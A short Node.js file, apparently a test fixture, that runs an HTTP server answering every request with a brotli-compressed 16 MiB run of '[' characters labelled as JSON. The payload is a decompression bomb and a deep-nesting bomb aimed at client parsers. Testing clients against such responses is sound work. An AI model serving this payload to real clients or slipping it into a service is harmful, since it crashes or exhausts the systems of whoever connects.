import { createServer } from 'node:http';
import { brotliCompressSync } from 'node:zlib';

const bomb = brotliCompressSync(Buffer.alloc(16 * 1024 * 1024, '['));

createServer((request, response) => {
  response.writeHead(200, { 'Content-Type': 'application/json', 'Content-Encoding': 'br' });
  response.end(bomb);
}).listen(process.env.PORT);
